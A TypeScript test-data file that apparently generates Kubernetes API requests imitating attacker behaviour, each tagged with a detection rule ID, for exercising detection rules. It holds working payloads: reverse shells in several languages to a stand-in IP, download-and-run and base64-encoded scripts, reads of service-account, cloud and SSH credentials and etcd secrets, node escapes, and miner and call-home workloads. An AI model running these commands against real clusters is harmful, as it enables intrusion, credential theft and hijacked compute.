import { asks, attack } from '../ask.ts';
import { container, cronJob, goodSpec, job, pod, workload } from '../objects.ts';
import { words } from '../session.ts';
import { type AttackStep, clients } from '../step.ts';

const ivo = asks('ivo', clients.kubectl);
const dana = asks('dana', clients.kubectl);
const socket = asks('ivo', 'OpenAPI-Generator/32.0.0/python');
const longhorn = asks('longhorn', clients.curl);
const runner = asks('runner', clients.kubectl);
const pods = '/api/v1/namespaces/payments/pods';
const runIn = (target: string, ...parts: readonly string[]): string =>
  `${target}/exec?${words(parts).replaceAll('%20', '+')}&stdin=true&stdout=true&stderr=true`;
const inCheckout = (...parts: readonly string[]): string => runIn(`${pods}/checkout-api-0`, ...parts);
const etcd = '/api/v1/namespaces/kube-system/pods/etcd-cp-1';

const sessions = attack(
  'execution',
  ['EX01 EX04', ivo.open('small shell', inCheckout('/bin/ash'))],
  ['EX01 EX04', dana.open('shell by a developer', inCheckout('sh', '-c', 'TERM=xterm sh'))],
  ['EX01', socket.open('web socket with GET', inCheckout('hostname'), { method: 'GET' })],
  ['EX06', ivo.open('reverse shell with netcat', inCheckout('nc', '203.0.113.50', '9001', '-e', '/bin/sh'))],
  [
    'EX06',
    ivo.open(
      'reverse shell with a pipe',
      inCheckout('sh', '-c', 'rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.50 9001 >/tmp/f'),
    ),
  ],
  [
    'EX06',
    ivo.open(
      'reverse shell with Python',
      inCheckout(
        'python3',
        '-c',
        'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.50",9001));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn("sh")',
      ),
    ),
  ],
  [
    'EX06',
    ivo.open(
      'reverse shell with Perl',
      inCheckout(
        'perl',
        '-e',
        'use Socket;$i="203.0.113.50";$p=9001;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in($p,inet_aton($i)));open(STDIN,">&S");exec("/bin/sh -i");',
      ),
    ),
  ],
  ['EX06', ivo.open('reverse shell with socat', inCheckout('socat', 'exec:bash -li,pty,stderr,setsid', 'tcp:203.0.113.50:9001'))],
  ['EX05', ivo.open('download and run', inCheckout('sh', '-c', 'wget -qO- http://203.0.113.50/a.sh | sh'))],
  [
    'EX05 EX06 EX29',
    ivo.open('encoded script', inCheckout('sh', '-c', 'echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjUwL2Euc2ggfCBzaA== | base64 -d | sh')),
  ],
  ['EX09', ivo.open('token on the short path', inCheckout('cat', '/run/secrets/kubernetes.io/serviceaccount/token'))],
  [
    'EX09',
    ivo.open(
      'token of a cloud identity',
      inCheckout('sh', '-c', 'cat $AWS_WEB_IDENTITY_TOKEN_FILE; cat /var/run/secrets/eks.amazonaws.com/serviceaccount/token'),
    ),
  ],
  [
    'EX07',
    ivo.open(
      'metadata service of Google',
      inCheckout(
        'wget',
        '-qO-',
        '--header',
        'Metadata-Flavor: Google',
        'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token',
      ),
    ),
  ],
  [
    'EX07',
    ivo.open(
      'metadata service of Azure',
      inCheckout('curl', '-H', 'Metadata:true', 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01'),
    ),
  ],
  ['EX08', ivo.open('environment', inCheckout('printenv'))],
  ['EX08', ivo.open('keys of a user', inCheckout('cat', '/root/.ssh/id_rsa'))],
  ['EX08', ivo.open('keys of a cloud', inCheckout('sh', '-c', 'cat ~/.aws/credentials ~/.kube/config'))],
  ['EX08 EX02', ivo.open('keys of the control plane', runIn(etcd, 'cat', '/etc/kubernetes/pki/etcd/server.key'))],
  ['EX08 EX02', ivo.open('secrets out of etcd', runIn(etcd, 'etcdctl', 'get', '/registry/secrets', '--prefix'))],
  ['EX10', dana.open('files out', inCheckout('tar', 'czf', '-', '/var/lib/app'))],
  ['EX31', dana.open('files in', inCheckout('tar', '-xmf', '-', '-C', '/usr/local/bin'))],
  ['EX26 EX04', ivo.open('scanner installed', inCheckout('apk', 'add', 'nmap', 'bind-tools'))],
  ['EX04', ivo.open('network searched', inCheckout('sh', '-c', 'nmap -sT 10.96.0.0/16'))],
  ['EX27', ivo.open('node entered', inCheckout('chroot', '/host', 'bash'))],
  [
    'EX27',
    ivo.open(
      'release agent',
      inCheckout('sh', '-c', 'mount -t cgroup -o rdma cgroup /tmp/cgrp && echo 1 > /tmp/cgrp/x/notify_on_release'),
    ),
  ],
  ['EX25', ivo.open('history removed', inCheckout('sh', '-c', 'unset HISTFILE; rm -f ~/.bash_history'))],
  [
    'EX24',
    ivo.open('miner', inCheckout('sh', '-c', 'nohup ./kworker --algo=rx/0 --url pool.example.net:443 --donate-level 1 &')),
  ],
  ['EX28 EX01', longhorn.open('command by an operator', inCheckout('id'))],
  [
    'EX01 EX28',
    runner.open('attached by a runner', '/api/v1/namespaces/gitlab-runner/pods/build-0/attach?stdin=true&stdout=true'),
  ],
  ['EX11', dana.open('database forwarded', '/api/v1/namespaces/payments/pods/checkout-api-0/portforward?ports=5432')],
  ['EX02 EX11', ivo.open('etcd forwarded', `${etcd}/portforward?ports=2379`)],
  ['N31', ivo.open('every pod entered', '/api/v1/namespaces/fleet/pods/unit-{n}/exec?command=env&stdout=true', { times: 12 })],
);

const debugging = attack(
  'execution',
  [
    'EX12 PE01',
    dana.strategic('debugging container', `${pods}/checkout-api-0/ephemeralcontainers`, {
      spec: {
        ephemeralContainers: [
          { name: 'debugger-1', image: 'nicolaka/netshoot', stdin: true, tty: true, targetContainerName: 'main' },
        ],
      },
    }),
  ],
  [
    'EX12 PE01',
    ivo.json('privileged debugging container', `${pods}/checkout-api-1/ephemeralcontainers`, [
      {
        op: 'add',
        path: '/spec/ephemeralContainers',
        value: [{ name: 'd', image: 'busybox', terminationMessagePolicy: 'File', securityContext: { privileged: true } }],
      },
    ]),
  ],
  [
    'N24 PE04',
    ivo.post(
      'node debugged',
      '/api/v1/namespaces/kube-system/pods',
      pod('node-debugger-worker-1-q9w8e', {
        nodeName: 'worker-1',
        hostPID: true,
        hostNetwork: true,
        hostIPC: true,
        tolerations: [{ operator: 'Exists' }],
        containers: [container({ name: 'debugger', image: 'ubuntu', volumeMounts: [{ name: 'host-root', mountPath: '/host' }] })],
        volumes: [{ name: 'host-root', hostPath: { path: '/' } }],
      }),
    ),
  ],
  [
    'EX32 EX20',
    dana.strategic('image of a running pod replaced', `${pods}/checkout-api-1`, {
      spec: { containers: [{ name: 'main', image: 'docker.io/harbourtools/web:latest' }] },
    }),
  ],
);

const workloads = attack(
  'execution',
  [
    'PE04 EX29 EX27',
    dana.post(
      'pod that enters the node',
      `${pods}?fieldManager=kubectl-run`,
      pod('r00t', {
        hostPID: true,
        containers: [
          {
            name: '1',
            image: 'alpine',
            command: ['nsenter', '--mount=/proc/1/ns/mnt', '--', '/bin/bash'],
            stdin: true,
            tty: true,
            securityContext: { privileged: true },
          },
        ],
      }),
    ),
  ],
  [
    'EX29',
    dana.post(
      'job that fetches a script',
      '/apis/batch/v1/namespaces/payments/jobs',
      job('sync', {
        containers: [container({ image: 'curlimages/curl', command: ['sh', '-c', 'curl -s http://203.0.113.50/i.sh | sh'] })],
      }),
    ),
  ],
  [
    'EX29',
    dana.apply(
      'scheduled call home',
      '/apis/batch/v1/namespaces/payments/cronjobs/metrics',
      cronJob('metrics', {
        containers: [container({ command: ['bash', '-c', 'exec 5<>/dev/tcp/203.0.113.50/443; cat <&5 | bash >&5'] })],
      }),
    ),
  ],
  [
    'EX29',
    dana.post(
      'hook that calls home',
      '/apis/apps/v1/namespaces/payments/deployments',
      workload('Deployment', 'hooked', {
        containers: [
          container({
            lifecycle: { postStart: { exec: { command: ['sh', '-c', 'wget -q http://203.0.113.50/x -O /tmp/x; sh /tmp/x'] } } },
          }),
        ],
      }),
    ),
  ],
  [
    'EX29',
    dana.post(
      'probe that calls home',
      '/apis/apps/v1/namespaces/payments/deployments',
      workload('Deployment', 'probed', {
        containers: [
          container({ livenessProbe: { exec: { command: ['sh', '-c', 'bash -i >& /dev/tcp/203.0.113.50/9001 0>&1'] } } }),
        ],
      }),
    ),
  ],
  [
    'N29',
    ivo.post(
      'miner as a replica set',
      '/apis/apps/v1/namespaces/payments/replicasets',
      workload('ReplicaSet', 'cache', { containers: [container({ image: 'docker.io/kannix/monero-miner:latest' })] }),
    ),
  ],
  [
    'N29',
    ivo.post(
      'miner as a daemon set',
      '/apis/apps/v1/namespaces/data/daemonsets',
      workload('DaemonSet', 'kube-cache', {
        containers: [container({ args: ['--donate-level=1', '-o', 'pool.example.net:14444', '--coin=monero'] })],
      }),
    ),
  ],
  [
    'EX22',
    dana.post(
      'image of an attack tool',
      `${pods}`,
      pod('peek', { containers: [container({ image: 'bustakube/alpine-peirates' })] }),
    ),
  ],
  [
    'EX22',
    ivo.post(
      'image of a hacker distribution',
      `${pods}`,
      pod('kali', { containers: [container({ image: 'kalilinux/kali-rolling', command: ['sleep', '1d'] })] }),
    ),
  ],
  [
    'EX13',
    ivo.apply(
      'agent on every node',
      '/apis/apps/v1/namespaces/data/daemonsets/node-agent',
      workload('DaemonSet', 'node-agent', goodSpec()),
    ),
  ],
  ['EX14', ivo.post('pod among those of the system', '/api/v1/namespaces/kube-system/pods', pod('kube-proxy-zz9', goodSpec()))],
  [
    'EX35',
    ivo.apply(
      'deployment among those of the system',
      '/apis/apps/v1/namespaces/kube-system/deployments/metrics-helper',
      workload('Deployment', 'metrics-helper', goodSpec()),
    ),
  ],
  [
    'EX20',
    ivo.strategic('sidecar', '/apis/apps/v1/namespaces/payments/deployments/checkout-api', {
      spec: { template: { spec: { containers: [{ name: 'log', image: 'docker.io/harbourtools/log:1' }] } } },
    }),
  ],
  [
    'EX16 EX30',
    runner.post('pod by a runner in another namespace', '/api/v1/namespaces/payments/pods', pod('runner-x', goodSpec())),
  ],
);

/** Commands, workloads and images. */
export const executeSteps: readonly AttackStep[] = [...sessions, ...debugging, ...workloads];
